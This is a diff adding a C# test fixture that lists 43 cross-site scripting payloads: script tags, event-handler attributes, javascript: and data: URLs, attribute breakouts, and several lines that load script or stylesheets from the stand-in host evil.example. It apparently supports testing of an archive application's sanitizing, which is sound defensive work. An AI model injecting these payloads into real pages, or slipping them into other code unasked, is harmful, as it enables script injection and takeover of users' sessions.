@@ -1,0 +1,52 @@
+namespace KapsoArchive.Tests.Hostile;
+
+/// <summary>43 texts, each of which runs a script, fetches something or takes a page over where a text is taken for markup, an attribute, an address, a style or a script.</summary>
+internal static class Payloads
+{
+    public static IReadOnlyList<string> All { get; } =
+    [
+        "<script>alert(1)</script>",
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "<script src=//evil.example/x.js></script>",
+        "<script type=module>import('//evil.example/x.js')</script>",
+        "</script><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=x onerror=&#97;lert(1)>",
+        "<img srcset=x onerror=alert(1)>",
+        "\"><img src=x onerror=alert(1)>",
+        "'><img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg/onload=alert`1`>",
+        "<svg><script>alert&#40;1)</script></svg>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
+        "<iframe src=javascript:alert(1)></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=javascript:alert(1)></object>",
+        "<embed src=javascript:alert(1)>",
+        "<a href=javascript:alert(1)>x</a>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+        "javascript:alert(1)//",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "<body onload=alert(1)>",
+        "<input autofocus onfocus=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<video><source onerror=alert(1)></video>",
+        "<marquee onstart=alert(1)>",
+        "<form action=javascript:alert(1)><button>x</button></form>",
+        "<button formaction=javascript:alert(1)>x</button>",
+        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+        "<base href=//evil.example/>",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<style>@import '//evil.example/x.css';</style>",
+        "</style><script>alert(1)</script>",
+        "</title><script>alert(1)</script>",
+        "</textarea><script>alert(1)</script>",
+        "--><script>alert(1)</script><!--",
+        "]]><script>alert(1)</script>",
+        "\" onmouseover=\"alert(1)\" x=\"",
+        "' onmouseover='alert(1)' x='",
+        "<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    ];
+}
